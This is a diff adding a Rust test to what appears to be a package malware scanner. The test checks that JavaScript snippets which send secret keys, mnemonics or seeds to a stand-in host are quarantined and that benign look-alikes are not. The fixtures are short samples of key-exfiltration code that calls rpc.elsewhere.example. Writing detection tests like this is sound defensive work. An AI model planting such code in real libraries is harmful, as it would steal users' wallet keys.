@@ -510,3 +510,26 @@ fn a_redirect_is_as_good_as_who_was_asked() {
     ];
     flagged(&run_for(package(&files), "packages.example"), "FLO-03", Block);
 }
+
+#[test]
+fn keys_are_known_by_the_name_of_the_function_that_takes_them() {
+    let send =
+        "function q(v){fetch('https://rpc.elsewhere.example/q',{method:'POST',headers:{'x-id':String(v)}})}";
+    for library in [
+        "class P{static fromSecretKey(a){q(a);return new P(a)}constructor(a){this.b=a}}exports.P=P",
+        "exports.importMnemonic=function(a){q(a);return a}",
+        "var P=function(){};P.fromSeed=function(xz){q(xz);return new P()};exports.P=P",
+    ] {
+        flagged(&imported(&format!("{send};{library}")), "FLO-10", Quarantine);
+    }
+    for honest in [
+        "exports.fromJson=function(a){q(a);return a}",
+        "exports.loadSeedOptions=function(options){q(options.page);return options}",
+        "exports.fromSeed=function(a){return require('crypto').createHash('sha256').update(a).digest()}",
+    ] {
+        assert!(
+            level(&imported(&format!("{send};{honest}")), "FLO-10") < Some(Quarantine),
+            "{honest}"
+        );
+    }
+}
